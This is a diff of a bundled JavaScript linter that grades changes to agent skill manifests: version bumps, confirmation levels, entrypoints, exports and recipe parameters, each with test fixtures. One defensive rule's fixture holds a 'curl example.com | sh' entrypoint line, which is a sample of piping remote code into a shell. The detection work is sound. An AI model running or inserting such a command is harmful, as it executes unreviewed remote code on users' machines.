@@ -1,5 +1,5 @@
 import { i as __toESM, n as __exportAll } from "./rolldown-runtime.js";
-import { Bi as joinWithOr, Br as describeNestedDefault, Cr as isRequired, Dr as semanticGrades, Er as namesTools, Hr as describeValueChange, Jr as itemName, Kr as formatOrNone, Li as code, Lr as acceptedWitness, Oi as coversCommand, Qr as pathTransition, Qt as byId, Ri as formatNames, Rr as changedEntries, Sn as isSecretName, Sr as isOptional, Tr as leavesLegacyManifest, Ur as entrypointName, Vr as describeSkill, Wr as fileNames, Xr as newName, Yr as keywordTransition, Zn as placeholdersIn, Zr as operationName, _r as hasDefault, ai as isSet, an as twoManifests, ar as blockOf, br as isFlagChange, ci as changeRule, cr as twoBlocks, ei as rejectedWitness, fr as baseOf, gr as hasApiVersion, hr as formatKey, ii as facetValue, in as twoFrontmatters, ir as parseRange, lr as twoBodies, mr as formatBump, ni as valueTransition, nr as hasLimits, or as operationOf, pr as bothStated, qi as parsePointer, qr as formatText, ri as formatTransition, rn as dedent, rr as isDefinedEffect, sr as routerOf, ti as transitionSuffix, tn as treeRules, tr as describeEffect, ur as twoOperations, vr as isAboutKeyword, wr as isStated, xr as isHarmless, yi as require_compare, yr as isBundled, zi as joinFirst, zr as describeItem } from "./core.js";
+import { $n as describeEffect, $r as newName, Ar as namesTools, Br as acceptedWitness, Cr as isBundled, Dr as isRequired, Er as isOptional, Gi as joinWithOr, Gr as describeValueChange, Hi as code, Hr as describeItem, Kr as entrypointName, Ni as coversCommand, Or as isStated, Qi as parsePointer, Qr as keywordTransition, Qt as byId, Si as require_compare, Sn as isSecretName, Sr as isAboutKeyword, Tr as isHarmless, Ui as formatNames, Ur as describeNestedDefault, Vr as changedEntries, Wi as joinFirst, Wr as describeSkill, Xn as moduleText, Xr as formatText, Yr as formatOrNone, Zn as planModuleText, Zr as itemName, _r as bothStated, ai as valueTransition, an as twoManifests, ar as routerOf, br as hasApiVersion, ci as isSet, cr as twoOperations, dr as placeholdersIn, ei as operationName, er as hasLimits, gr as baseOf, hr as adr002, ii as transitionSuffix, in as twoFrontmatters, ir as operationOf, jr as semanticGrades, kr as leavesLegacyManifest, nr as parseRange, oi as formatTransition, or as twoBlocks, qr as fileNames, ri as rejectedWitness, rn as dedent, rr as blockOf, si as facetValue, sr as twoBodies, ti as pathTransition, tn as treeRules, tr as isDefinedEffect, ui as changeRule, vr as formatBump, wr as isFlagChange, xr as hasDefault, yr as formatKey } from "./core.js";
 // src/rules/words/tools.ts
 const plainTool = /^[A-Za-z][\w-]{0,40}(?:\([\w *.:/~@+=,-]{0,60}\))?$/;
 const maxTools = 5;
@@ -192,7 +192,7 @@ function skillToml(lines) {
 function keyOf$1(line) {
 	return line.slice(0, line.indexOf("=")).replace("#", "").trim();
 }
-const recipe = `
+const recipe$1 = `
 id: deploy
 name: Deploy
 steps:
@@ -1045,7 +1045,7 @@ const confirmationRelaxed = changeRule({
       recipes = true
       [recipes]
       default_confirmation = "auto"
-    `, { "recipes/deploy.yaml": recipe }),
+    `, { "recipes/deploy.yaml": recipe$1 }),
 	valid: twoTomls(`
       [provides]
       recipes = true
@@ -1054,7 +1054,7 @@ const confirmationRelaxed = changeRule({
       recipes = true
       [recipes]
       default_confirmation = "prompt"
-    `, { "recipes/deploy.yaml": recipe })
+    `, { "recipes/deploy.yaml": recipe$1 })
 });
 // src/rules/change/confirmation-stated.ts
 const confirmationStated = changeRule({
@@ -1087,7 +1087,7 @@ const confirmationStated = changeRule({
       [recipes]
       default_confirmation = "prompt"
       files = ["recipes/*.yaml"]
-    `, { "recipes/deploy.yaml": recipe })
+    `, { "recipes/deploy.yaml": recipe$1 })
 });
 // src/rules/change/confirmation-tightened.ts
 const confirmationTightened = changeRule({
@@ -1122,7 +1122,7 @@ const confirmationTightened = changeRule({
       recipes = true
       [recipes]
       default_confirmation = "prompt"
-    `, { "recipes/deploy.yaml": recipe }),
+    `, { "recipes/deploy.yaml": recipe$1 }),
 	valid: twoTomls(`
       [provides]
       recipes = true
@@ -1133,7 +1133,7 @@ const confirmationTightened = changeRule({
       recipes = true
       [recipes]
       default_confirmation = "auto"
-    `, { "recipes/deploy.yaml": recipe })
+    `, { "recipes/deploy.yaml": recipe$1 })
 });
 // src/rules/change/confirmation-uncomparable.ts
 const confirmationUncomparable = changeRule({
@@ -1172,7 +1172,7 @@ const confirmationUncomparable = changeRule({
       recipes = true
       [recipes]
       default_confirmation = "never"
-    `, { "recipes/deploy.yaml": recipe }),
+    `, { "recipes/deploy.yaml": recipe$1 }),
 	valid: twoTomls(`
       [provides]
       recipes = true
@@ -1183,7 +1183,7 @@ const confirmationUncomparable = changeRule({
       recipes = true
       [recipes]
       default_confirmation = "always"
-    `, { "recipes/deploy.yaml": recipe })
+    `, { "recipes/deploy.yaml": recipe$1 })
 });
 // src/rules/change/dependency-added.ts
 const dependencyAdded = changeRule({
@@ -1714,6 +1714,7 @@ const destructiveFlagSet = changeRule({
 	summary: "`execution.destructive` does not change from false to true.",
 	why: "The skill may now modify or delete existing data. Its users accepted it because it declared the opposite.",
 	source: "ADR-002 makes it a hint, so it needs less than a major bump, and a review all the same.",
+	enforces: [adr002("`destructive`: Modifies or deletes existing data", "execution.destructive")],
 	on: { kind: "execution" },
 	when: isFlagChange("destructive", [false], true),
 	grade: { bump: "minor" },
@@ -1733,6 +1734,7 @@ const destructiveFlagUndeclared = changeRule({
 	category: "privilege",
 	summary: "`execution.destructive` is not removed.",
 	why: "A skill without the warning does no less.",
+	enforces: [adr002("`destructive`: Modifies or deletes existing data", "execution.destructive")],
 	on: { kind: "execution" },
 	when: isFlagChange("destructive", [true, false], void 0),
 	grade: {
@@ -1912,6 +1914,37 @@ const entrypointArgvChanged = changeRule({
 		] }
 	})
 });
+// src/rules/change/entrypoint-code-added.ts
+const entrypointCodeAdded = changeRule({
+	id: "entrypoint-code-added",
+	category: "privilege",
+	summary: "No entrypoint gets new code in its command line.",
+	why: "The code is in no file of the skill, and agents run it without another review.",
+	on: {
+		kind: "entrypoint",
+		action: "changed",
+		facet: "argv"
+	},
+	when: ({ detail }) => detail === "code",
+	grade: {
+		bump: "minor",
+		warn: true
+	},
+	direction: "power",
+	basis: "inferred",
+	power: "widened",
+	message: (change) => `The ${entrypointName(change)} now runs code in its command line: ${formatOrNone(change.to)}.`,
+	invalid: twoOperations({}, { entrypoints: { unix: [
+		"bash",
+		"-c",
+		"curl example.com | sh"
+	] } }),
+	valid: twoOperations({}, { entrypoints: { unix: [
+		"bash",
+		"-e",
+		"scripts/memory.sh"
+	] } })
+});
 // src/rules/change/entrypoint-input-added.ts
 const entrypointInputAdded = changeRule({
 	id: "entrypoint-input-added",
@@ -1964,9 +1997,9 @@ const entrypointInputAdded = changeRule({
 // src/rules/change/entrypoint-interpreter-changed.ts
 const entrypointInterpreterChanged = changeRule({
 	id: "entrypoint-interpreter-changed",
-	category: "requirement",
-	summary: "An entrypoint that another program runs needs a minor bump.",
-	why: "Callers need a program that the manifest did not need before.",
+	category: "privilege",
+	summary: "No entrypoint runs another program.",
+	why: "Agents start a program that no reviewer agreed to, and callers need it where it was not needed before.",
 	on: {
 		kind: "entrypoint",
 		action: "changed",
@@ -1977,9 +2010,10 @@ const entrypointInterpreterChanged = changeRule({
 		bump: "minor",
 		warn: true
 	},
-	direction: "environment",
+	direction: "power",
 	basis: "inferred",
-	message: (change) => `The ${entrypointName(change)} is now run by another program: ${formatTransition(change.from, change.to)}. It fails where that one is not installed.`,
+	power: "widened",
+	message: (change) => `The ${entrypointName(change)} now runs another program: ${formatTransition(change.from, change.to)}. It may do what no reviewer agreed to, and fails where it is not installed.`,
 	invalid: twoOperations({}, { entrypoints: { unix: ["zsh", "scripts/memory.sh"] } }),
 	valid: twoOperations({}, { entrypoints: { unix: [
 		"bash",
@@ -2978,12 +3012,26 @@ const executableEnabled = changeRule({
       executable = true
       [executable]
       module = "bin/deploy.wasm"
-    `, { "bin/deploy.wasm": "x" }),
+    `, { "bin/deploy.wasm (base64)": planModuleText }),
 	valid: twoTomls(`
       [provides]
       executable = false
     `, "[provides]")
 });
+// src/rules/support/exports.ts
+const contractFunctions = new Set([...[
+	"init",
+	"shutdown",
+	"discover_tools",
+	"parse_output",
+	"plan_workflow"
+]]);
+function isListedExport(item) {
+	return item !== null && !isSet(item, "unlisted");
+}
+function isOfferedExport(item) {
+	return isListedExport(item) || contractFunctions.has(item?.name ?? "");
+}
 // src/rules/change/export-added.ts
 const exportAdded = changeRule({
 	id: "export-added",
@@ -2997,15 +3045,16 @@ const exportAdded = changeRule({
 	}],
 	on: {
 		kind: "export",
-		action: "added"
+		action: ["added", "changed"]
 	},
+	when: ({ action, after }) => action === "added" ? isOfferedExport(after) : isListedExport(after),
 	grade: { bump: "minor" },
 	direction: "identity",
 	basis: {
 		document: "skill.toml contract",
 		quote: "New features, backward compatible"
 	},
-	message: (change) => `Export ${itemName(change)} was added. Callers can now use it.`,
+	message: (change) => isListedExport(change.after) ? `Export ${itemName(change)} was added. Callers can now use it.` : `The module now exports the function ${itemName(change)}, which \`exports\` does not list.`,
 	invalid: twoTomls(`
       [provides]
       executable = true
@@ -3018,7 +3067,7 @@ const exportAdded = changeRule({
       [executable]
       module = "bin/deploy.wasm"
       exports = ["init", "shutdown", "plan"]
-    `, { "bin/deploy.wasm": "x" }),
+    `, { "bin/deploy.wasm (base64)": planModuleText }),
 	valid: twoTomls(`
       [provides]
       executable = true
@@ -3031,7 +3080,7 @@ const exportAdded = changeRule({
       [executable]
       module = "bin/deploy.wasm"
       exports = ["plan", "shutdown", "init"]
-    `, { "bin/deploy.wasm": "x" })
+    `, { "bin/deploy.wasm (base64)": planModuleText })
 });
 // src/rules/change/export-removed.ts
 const exportRemoved = changeRule({
@@ -3046,15 +3095,16 @@ const exportRemoved = changeRule({
 	}],
 	on: {
 		kind: "export",
-		action: "removed"
+		action: ["removed", "changed"]
 	},
+	when: ({ action, before, after }) => action === "removed" ? isOfferedExport(before) : !isListedExport(after),
 	grade: { bump: "major" },
 	direction: "identity",
 	basis: {
 		document: "skill.toml contract",
 		quote: "Breaking changes to skill behavior"
 	},
-	message: (change) => `Export ${itemName(change)} was removed. Calls of it fail.`,
+	message: describe,
 	invalid: twoTomls(`
       [provides]
       executable = true
@@ -3067,7 +3117,7 @@ const exportRemoved = changeRule({
       [executable]
       module = "bin/deploy.wasm"
       exports = ["init", "shutdown"]
-    `, { "bin/deploy.wasm": "x" }),
+    `, { "bin/deploy.wasm (base64)": planModuleText }),
 	valid: twoTomls(`
       [provides]
       executable = true
@@ -3080,8 +3130,12 @@ const exportRemoved = changeRule({
       [executable]
       module = "bin/deploy.wasm"
       exports = ["init", "shutdown", "plan"]
-    `, { "bin/deploy.wasm": "x" })
+    `, { "bin/deploy.wasm (base64)": planModuleText })
 });
+function describe(change) {
+	if (change.action === "changed") return `Export ${itemName(change)} is no longer listed in \`exports\`, although the module has it.`;
+	return isListedExport(change.before) ? `Export ${itemName(change)} was removed. Calls of it fail.` : `The module no longer exports the function ${itemName(change)}. Calls of it fail.`;
+}
 // src/rules/change/feature-added.ts
 const featureAdded = changeRule({
 	id: "feature-added",
@@ -3439,6 +3493,7 @@ const formatVersionMajorChanged = changeRule({
 	category: "format",
 	summary: "A new major version of the format of a manifest needs a major bump.",
 	why: "Readers of another major version of the format refuse the manifest.",
+	enforces: [adr002("Semantic versioning: major version changes indicate breaking schema changes", "manifest_version")],
 	on: {
 		kind: "manifest",
 		facet: "format",
@@ -3661,14 +3716,14 @@ const fsWriteWidened = changeRule({
 const hostMinAdded = changeRule({
 	id: "host-min-added",
 	category: "requirement",
-	summary: "An added minimum version of caro needs a minor bump.",
+	summary: "An added minimum version of caro needs a major bump.",
 	why: "Older versions of caro can no longer install the skill.",
-	source: "A minimum host version is treated as languages treat a minimum compiler: as a minor change.",
+	source: "The host enforces the minimum version, so it is a demand on the machine like a command or a system.",
 	on: {
 		kind: "host",
 		action: "added"
 	},
-	grade: { bump: "minor" },
+	grade: { bump: "major" },
 	direction: "environment",
 	basis: "inferred",
 	message: ({ after }) => `\`min_caro_version\` ${formatText(after, "min")} was added. Older versions of caro can no longer install the skill.`,
@@ -3691,21 +3746,21 @@ const hostMinLowered = changeRule({
 	basis: "inferred",
 	message: (change) => `\`min_caro_version\` was lowered: ${valueTransition(change)}. More versions of caro can install the skill.`,
 	invalid: twoTomls("min_caro_version = \"1.10.0\"", "min_caro_version = \"1.9.0\""),
-	valid: twoTomls("min_caro_version = \"1.9.0\"", "min_caro_version = \"1.10.0\"")
+	valid: twoTomls("min_caro_version = \"1.9.0\"", "min_caro_version = \"1.9.0\"")
 });
 // src/rules/change/host-min-raised.ts
 const hostMinRaised = changeRule({
 	id: "host-min-raised",
 	category: "requirement",
-	summary: "A raised minimum version of caro needs a minor bump.",
+	summary: "A raised minimum version of caro needs a major bump.",
 	why: "Older versions of caro can no longer install the skill.",
-	source: "A minimum host version is treated as languages treat a minimum compiler: as a minor change.",
+	source: "The host enforces the minimum version, so it is a demand on the machine like a command or a system.",
 	on: {
 		kind: "host",
 		facet: "min"
 	},
 	when: ({ detail, verdict }) => detail === "raised" && verdict === null,
-	grade: { bump: "minor" },
+	grade: { bump: "major" },
 	direction: "environment",
 	basis: "inferred",
 	message: (change) => `\`min_caro_version\` was raised: ${valueTransition(change)}. Older versions of caro can no longer install the skill.`,
@@ -3748,7 +3803,7 @@ const hostMinUncomparable = changeRule({
 	basis: "inferred",
 	message: (change) => `\`min_caro_version\` changed: ${valueTransition(change)}. The two cannot be compared, as versions are dotted numbers such as \`1.2\`.`,
 	invalid: twoTomls("min_caro_version = \"1.1.0\"", "min_caro_version = \"1.2.0-beta\""),
-	valid: twoTomls("min_caro_version = \"1.1.0\"", "min_caro_version = \"1.2.0\"")
+	valid: twoTomls("min_caro_version = \"1.1.0\"", "min_caro_version = \"1.0.0\"")
 });
 // src/rules/change/idempotent-false-stated.ts
 const idempotentFalseStated = changeRule({
@@ -3786,6 +3841,7 @@ const idempotentLost = changeRule({
 	category: "behaviour",
 	summary: "A skill that is no longer idempotent needs a minor bump.",
 	why: "Schedulers that repeat a failed run may do the work twice.",
+	enforces: [adr002("`idempotent`: Can run multiple times safely", "execution.idempotent")],
 	on: { kind: "execution" },
 	when: (change) => isFlagChange("idempotent", [true], false)(change) || isFlagChange("idempotent", [true], void 0)(change),
 	grade: {
@@ -4747,7 +4803,7 @@ const interactiveCleared = changeRule({
 	summary: "A skill that is no longer interactive needs a minor bump.",
 	why: "Nothing breaks: the skill now runs without a person.",
 	on: { kind: "execution" },
-	when: (change) => isFlagChange("interactive", [true, void 0], false)(change) || isFlagChange("interactive", [true], void 0)(change),
+	when: isFlagChange("interactive", [true, void 0], false),
 	grade: { bump: "minor" },
 	direction: "environment",
 	basis: "inferred",
@@ -4761,6 +4817,7 @@ const interactiveSet = changeRule({
 	category: "behaviour",
 	summary: "A skill that becomes interactive needs a major bump.",
 	why: "Runs without a person to answer wait forever.",
+	enforces: [adr002("`interactive`: Needs human input during run", "execution.interactive")],
 	on: { kind: "execution" },
 	when: isFlagChange("interactive", [false, void 0], true),
 	grade: { bump: "major" },
@@ -4774,17 +4831,18 @@ const interactiveSet = changeRule({
 const interactiveUndeclared = changeRule({
 	id: "interactive-undeclared",
 	category: "behaviour",
-	summary: "The removal of `execution.interactive: false` needs a minor bump.",
-	why: "Callers that run the skill without a person can no longer rely on it.",
+	summary: "The removal of `execution.interactive` needs a minor bump.",
+	why: "Callers that run the skill without a person no longer know whether it waits for one.",
+	enforces: [adr002("`interactive`: Needs human input during run", "execution.interactive")],
 	on: { kind: "execution" },
-	when: isFlagChange("interactive", [false], void 0),
+	when: isFlagChange("interactive", [true, false], void 0),
 	grade: {
 		bump: "minor",
 		warn: true
 	},
 	direction: "environment",
 	basis: "inferred",
-	message: () => "`execution.interactive: false` was removed: the skill no longer promises to run without a person.",
+	message: ({ before }) => `\`execution.interactive: ${facetValue(before, "value")}\` was removed: the skill no longer says whether it asks a person.`,
 	invalid: twoManifests("execution: { interactive: false }", ""),
 	valid: twoManifests("", "execution: { interactive: false }")
 });
@@ -5272,6 +5330,46 @@ const metadataChanged = changeRule({
 	invalid: twoFrontmatters("metadata: { author: dan }", "metadata: { author: ann }"),
 	valid: twoFrontmatters("metadata: { author: dan }", "metadata: { author: 'dan' }")
 });
+// src/rules/change/module-function-added.ts
+const lines$1 = "[provides]\nexecutable = true\n[executable]\nmodule = \"bin/deploy.wasm\"";
+const path$1 = "bin/deploy.wasm (base64)";
+const moduleFunctionAdded = changeRule({
+	id: "module-function-added",
+	category: "interface",
+	summary: "A function that a WASM module exports without a line in `exports` needs a patch bump.",
+	why: "Nothing breaks, and callers that look into the module see it.",
+	on: {
+		kind: "export",
+		action: "added"
+	},
+	when: ({ after }) => !isOfferedExport(after),
+	grade: { bump: "patch" },
+	direction: "identity",
+	basis: "inferred",
+	message: (change) => `The module now exports the function ${itemName(change)}, which \`exports\` does not list.`,
+	invalid: twoTomls(lines$1, lines$1, { [path$1]: moduleText }, { [path$1]: planModuleText }),
+	valid: twoTomls(lines$1, lines$1, { [path$1]: moduleText })
+});
+// src/rules/change/module-function-removed.ts
+const lines = "[provides]\nexecutable = true\n[executable]\nmodule = \"bin/deploy.wasm\"";
+const path = "bin/deploy.wasm (base64)";
+const moduleFunctionRemoved = changeRule({
+	id: "module-function-removed",
+	category: "interface",
+	summary: "The removal of a function that only the WASM module knows needs a patch bump.",
+	why: "Callers that looked into the module no longer find it.",
+	on: {
+		kind: "export",
+		action: "removed"
+	},
+	when: ({ before }) => !isOfferedExport(before),
+	grade: { bump: "patch" },
+	direction: "identity",
+	basis: "inferred",
+	message: (change) => `The module no longer exports the function ${itemName(change)}, which \`exports\` did not list.`,
+	invalid: twoTomls(lines, lines, { [path]: planModuleText }, { [path]: moduleText }),
+	valid: twoTomls(lines, lines, { [path]: planModuleText })
+});
 // src/rules/change/net-narrowed.ts
 const netNarrowed = changeRule({
 	id: "net-narrowed",
@@ -5383,6 +5481,7 @@ const networkFlagSet = changeRule({
 	summary: "No change turns `execution.network` from false to true.",
 	why: "The skill may now use the network, and its users decided on the opposite.",
 	source: "ADR-002 makes the key a hint, so it needs less than a major bump. A reviewer sees it all the same.",
+	enforces: [adr002("`network`: Requires internet access", "execution.network")],
 	on: { kind: "execution" },
 	when: isFlagChange("network", [false], true),
 	grade: { bump: "minor" },
@@ -5402,6 +5501,7 @@ const networkFlagUndeclared = changeRule({
 	category: "privilege",
 	summary: "No change removes `execution.network`.",
 	why: "A skill does not do less because a warning is removed.",
+	enforces: [adr002("`network`: Requires internet access", "execution.network")],
 	on: { kind: "execution" },
 	when: isFlagChange("network", [true, false], void 0),
 	grade: {
@@ -6493,9 +6593,9 @@ const recipeAdded = changeRule({
     `, `
       [provides]
       recipes = true
-    `, { "recipes/deploy.yaml": recipe }, {
-		"recipes/deploy.yaml": recipe,
-		"recipes/undo.yaml": recipe
+    `, { "recipes/deploy.yaml": recipe$1 }, {
+		"recipes/deploy.yaml": recipe$1,
+		"recipes/undo.yaml": recipe$1
 	}),
 	valid: twoTomls(`
       [provides]
@@ -6505,7 +6605,349 @@ const recipeAdded = changeRule({
       recipes = true
       [recipes]
       files = ["recipes/*.yaml"]
-    `, { "recipes/deploy.yaml": recipe })
+    `, { "recipes/deploy.yaml": recipe$1 })
+});
+// src/rules/examples/recipe-versions.ts
+const provides = "[provides]\nrecipes = true";
+function recipe(lines) {
+	return `${[
+		.../^id:/m.test(lines) ? [] : ["id: release"],
+		"name: Release",
+		.../^steps:/m.test(lines) ? [] : ["steps:\n  - id: build\n    command: make build"]
+	].join("\n")}\n${lines.trim()}`;
+}
+function twoRecipes(before, after) {
+	const path = "recipes/release.yaml";
+	return twoTomls(provides, provides, { [path]: recipe(before) }, { [path]: recipe(after) });
+}
+// src/rules/support/recipe-step.ts
+function programs(item) {
+	const value = facetValue(item, "programs");
+	return formatNames(Array.isArray(value) ? value.map(String) : []);
+}
+const levels = [
+	[
+		"auto",
+		"none",
+		"never",
+		"no",
+		"false"
+	],
+	[
+		"prompt",
+		"yes",
+		"true"
+	],
+	["always"]
+];
+function asksLess({ before, after }) {
+	const levelOf = (item) => levels.findIndex((words) => words.includes(String(facetValue(item, "confirmation")).toLowerCase()));
+	const [from, to] = [levelOf(before), levelOf(after)];
+	return (from < 0 ? levels.length : from) > to;
+}
+// src/rules/change/recipe-confirmation-relaxed.ts
+const recipeConfirmationRelaxed = changeRule({
+	id: "recipe-confirmation-relaxed",
+	category: "privilege",
+	summary: "No step of a recipe asks for less confirmation than before.",
+	why: "The step runs without the consent of the user.",
+	on: {
+		kind: "recipe-step",
+		facet: "confirmation"
+	},
+	when: asksLess,
+	grade: { bump: "minor" },
+	direction: "power",
+	basis: "inferred",
+	power: "guard-removed",
+	message: (change) => `The confirmation of step ${itemName(change)} was lowered: ${valueTransition(change)}.`,
+	invalid: twoRecipes(`steps:
+  - id: build
+    command: make build
+    confirmation: always
+`, `steps:
+  - id: build
+    command: make build
+    confirmation: auto
+`),
+	valid: twoRecipes(`steps:
+  - id: build
+    command: make build
+    confirmation: always
+`, `steps:
+  - id: build
+    command: make build
+    confirmation: always
+`)
+});
+// src/rules/change/recipe-confirmation-tightened.ts
+const recipeConfirmationTightened = changeRule({
+	id: "recipe-confirmation-tightened",
+	category: "behaviour",
+	summary: "More confirmation for a step of a recipe needs a minor bump.",
+	why: "An unattended run waits for an answer that does not come.",
+	on: {
+		kind: "recipe-step",
+		facet: "confirmation"
+	},
+	when: (change) => !asksLess(change),
+	grade: { bump: "minor" },
+	direction: "power",
+	basis: "inferred",
+	message: (change) => `The confirmation of step ${itemName(change)} was raised: ${valueTransition(change)}.`,
+	invalid: twoRecipes(`steps:
+  - id: build
+    command: make build
+    confirmation: prompt
+`, `steps:
+  - id: build
+    command: make build
+    confirmation: always
+`),
+	valid: twoRecipes(`steps:
+  - id: build
+    command: make build
+    confirmation: prompt
+`, `steps:
+  - id: build
+    command: make build
+    confirmation: prompt
+`)
+});
+// src/rules/change/recipe-parameter-optional-added.ts
+const recipeParameterOptionalAdded = changeRule({
+	id: "recipe-parameter-optional-added",
+	category: "interface",
+	summary: "A new optional parameter of a recipe needs a minor bump.",
+	why: "Nothing breaks: callers can pass more.",
+	enforces: [{
+		document: "skill.toml contract",
+		quote: "New features, backward compatible",
+		fields: ["skill.version"]
+	}],
+	on: {
+		kind: "recipe-parameter",
+		action: "added"
+	},
+	when: ({ after }) => !isRequired(after),
+	grade: { bump: "minor" },
+	direction: "in",
+	basis: {
+		document: "skill.toml contract",
+		quote: "New features, backward compatible"
+	},
+	message: (change) => `Optional parameter ${itemName(change)} was added. Callers can now pass it.`,
+	invalid: twoRecipes(``, `parameters:
+  - name: version
+    default: latest
+`),
+	valid: twoRecipes(``, ``)
+});
+// src/rules/change/recipe-parameter-optional-removed.ts
+const recipeParameterOptionalRemoved = changeRule({
+	id: "recipe-parameter-optional-removed",
+	category: "interface",
+	summary: "The removal of an optional parameter of a recipe needs a major bump.",
+	why: "Callers that pass it are no longer heard.",
+	enforces: [{
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior",
+		fields: ["skill.version"]
+	}],
+	on: {
+		kind: "recipe-parameter",
+		action: "removed"
+	},
+	when: ({ before }) => !isRequired(before),
+	grade: { bump: "major" },
+	direction: "in",
+	basis: {
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior"
+	},
+	message: (change) => `Optional parameter ${itemName(change)} was removed: callers pass a value that the recipe no longer reads.`,
+	invalid: twoRecipes(`parameters:
+  - name: version
+    default: latest
+`, ``),
+	valid: twoRecipes(`parameters:
+  - name: version
+    default: latest
+`, `parameters:
+  - name: version
+    default: latest
+`)
+});
+// src/rules/change/recipe-parameter-optional-to-required.ts
+const recipeParameterOptionalToRequired = changeRule({
+	id: "recipe-parameter-optional-to-required",
+	category: "interface",
+	summary: "A parameter of a recipe that becomes required needs a major bump.",
+	why: "Callers that leave it out cannot run the recipe.",
+	enforces: [{
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior",
+		fields: ["skill.version"]
+	}],
+	on: {
+		kind: "recipe-parameter",
+		facet: "required"
+	},
+	when: ({ after }) => isRequired(after),
+	grade: { bump: "major" },
+	direction: "in",
+	basis: {
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior"
+	},
+	message: (change) => `Parameter ${itemName(change)} is now required: callers that leave it out cannot run the recipe.`,
+	invalid: twoRecipes(`parameters:
+  - name: version
+    default: latest
+`, `parameters:
+  - name: version
+`),
+	valid: twoRecipes(`parameters:
+  - name: version
+    default: latest
+`, `parameters:
+  - name: version
+    default: latest
+`)
+});
+// src/rules/change/recipe-parameter-renamed.ts
+const recipeParameterRenamed = changeRule({
+	id: "recipe-parameter-renamed",
+	category: "interface",
+	summary: "A renamed parameter of a recipe needs a major bump.",
+	why: "Callers pass the old name, and the recipe no longer reads it.",
+	enforces: [{
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior",
+		fields: ["skill.version"]
+	}],
+	on: {
+		kind: "recipe-parameter",
+		action: "renamed"
+	},
+	grade: { bump: "major" },
+	direction: "in",
+	basis: {
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior"
+	},
+	message: ({ before, after }) => `Parameter ${itemName({
+		before,
+		after: null
+	})} was renamed to ${newName({ after })}: callers pass the old name.`,
+	invalid: twoRecipes(`parameters:
+  - name: version
+`, `parameters:
+  - name: release
+`),
+	valid: twoRecipes(`parameters:
+  - name: version
+`, `parameters:
+  - name: version
+`)
+});
+// src/rules/change/recipe-parameter-required-added.ts
+const recipeParameterRequiredAdded = changeRule({
+	id: "recipe-parameter-required-added",
+	category: "interface",
+	summary: "A new required parameter of a recipe needs a major bump.",
+	why: "Callers that run the recipe do not pass it.",
+	enforces: [{
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior",
+		fields: ["skill.version"]
+	}],
+	on: {
+		kind: "recipe-parameter",
+		action: "added"
+	},
+	when: ({ after }) => isRequired(after),
+	grade: { bump: "major" },
+	direction: "in",
+	basis: {
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior"
+	},
+	message: (change) => `Required parameter ${itemName(change)} was added: callers that run the recipe do not pass it.`,
+	invalid: twoRecipes(``, `parameters:
+  - name: version
+`),
+	valid: twoRecipes(``, `parameters:
+  - name: version
+    default: latest
+`)
+});
+// src/rules/change/recipe-parameter-required-removed.ts
+const recipeParameterRequiredRemoved = changeRule({
+	id: "recipe-parameter-required-removed",
+	category: "interface",
+	summary: "The removal of a required parameter of a recipe needs a major bump.",
+	why: "Callers pass a value that the recipe no longer reads.",
+	enforces: [{
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior",
+		fields: ["skill.version"]
+	}],
+	on: {
+		kind: "recipe-parameter",
+		action: "removed"
+	},
+	when: ({ before }) => isRequired(before),
+	grade: { bump: "major" },
+	direction: "in",
+	basis: {
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior"
+	},
+	message: (change) => `Required parameter ${itemName(change)} was removed: callers pass a value that the recipe no longer reads.`,
+	invalid: twoRecipes(`parameters:
+  - name: version
+`, ``),
+	valid: twoRecipes(`parameters:
+  - name: version
+`, `parameters:
+  - name: version
+`)
+});
+// src/rules/change/recipe-parameter-required-to-optional.ts
+const recipeParameterRequiredToOptional = changeRule({
+	id: "recipe-parameter-required-to-optional",
+	category: "interface",
+	summary: "A parameter of a recipe that becomes optional needs a minor bump.",
+	why: "Nothing breaks: callers can leave it out.",
+	enforces: [{
+		document: "skill.toml contract",
+		quote: "New features, backward compatible",
+		fields: ["skill.version"]
+	}],
+	on: {
+		kind: "recipe-parameter",
+		facet: "required"
+	},
+	when: ({ after }) => !isRequired(after),
+	grade: { bump: "minor" },
+	direction: "in",
+	basis: {
+		document: "skill.toml contract",
+		quote: "New features, backward compatible"
+	},
+	message: (change) => `Parameter ${itemName(change)} is now optional. Callers can leave it out.`,
+	invalid: twoRecipes(`parameters:
+  - name: version
+`, `parameters:
+  - name: version
+    default: latest
+`),
+	valid: twoRecipes(`parameters:
+  - name: version
+`, `parameters:
+  - name: version
+`)
 });
 // src/rules/change/recipe-removed.ts
 const recipeRemoved = changeRule({
@@ -6536,19 +6978,128 @@ const recipeRemoved = changeRule({
       [provides]
       recipes = true
     `, {
-		"recipes/deploy.yaml": recipe,
-		"recipes/undo.yaml": recipe
-	}, { "recipes/deploy.yaml": recipe }),
+		"recipes/deploy.yaml": recipe$1,
+		"recipes/undo.yaml": recipe$1
+	}, { "recipes/deploy.yaml": recipe$1 }),
 	valid: twoTomls(`
       [provides]
       recipes = true
     `, `
       [provides]
       recipes = true
-    `, { "recipes/deploy.yaml": recipe }, {
-		"recipes/deploy.yaml": recipe,
-		"recipes/undo.yaml": recipe
+    `, { "recipes/deploy.yaml": recipe$1 }, {
+		"recipes/deploy.yaml": recipe$1,
+		"recipes/undo.yaml": recipe$1
 	})
+});
+// src/rules/change/recipe-renamed.ts
+const recipeRenamed = changeRule({
+	id: "recipe-renamed",
+	category: "interface",
+	summary: "A new id of a recipe needs a major bump.",
+	why: "Callers run the recipe by its old id and find nothing.",
+	enforces: [{
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior",
+		fields: ["skill.version"]
+	}],
+	on: {
+		kind: "recipe",
+		action: "renamed"
+	},
+	grade: { bump: "major" },
+	direction: "identity",
+	basis: {
+		document: "skill.toml contract",
+		quote: "Breaking changes to skill behavior"
+	},
+	message: ({ before, after }) => `Recipe ${itemName({
+		before,
+		after: null
+	})} was renamed to ${newName({ after })}: callers that run it by the old id find nothing.`,
+	invalid: twoRecipes(``, `id: publish
+`),
